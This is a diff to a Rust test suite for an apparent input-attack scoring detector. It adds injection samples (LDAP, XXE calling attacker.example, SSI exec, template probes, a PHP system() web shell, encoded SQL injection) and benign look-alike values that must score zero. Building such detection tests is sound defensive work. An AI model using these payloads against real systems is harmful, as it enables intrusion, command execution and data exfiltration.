@@ -58,6 +58,15 @@ fn attacks_score_at_least_the_default_threshold() {
         "http://169.254.169.254/latest/meta-data/",
         "http://0x7f000001/",
         "gopher://127.0.0.1:6379/_",
+        "*)(uid=*))(|(uid=*",
+        "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"http://attacker.example/x\">]><d>&x;</d>",
+        "<!--#exec cmd=\"id\" -->",
+        "{{7*7}}",
+        "${7*7}",
+        "<%= 7*7 %>",
+        "<?php system($_GET['c']); ?>",
+        "1&#x27; OR &#x27;1&#x27;=&#x27;1",
+        "\\u0027 OR 1=1--",
     ] {
         assert!(score(a) >= 5, "{a}: {:?}", rules_of(a, Location::Value));
     }
@@ -88,6 +97,11 @@ fn awkward_legitimate_values_score_nothing() {
         "Customer's car: 'Blue' -- see file",
         "intermittent fault; ECU code P0301 & P0302",
         "20\" wheels",
+        "Hello {{first_name}}, your car is ready",
+        "price: ${amount} incl. VAT",
+        "Tom &amp; Jerry; rock &amp; roll",
+        "rear bumper (see photo)(2)",
+        "<b>Note</b>: 5 < 6",
     ] {
         assert_eq!(score(b), 0, "{b}: {:?}", rules_of(b, Location::Value));
     }
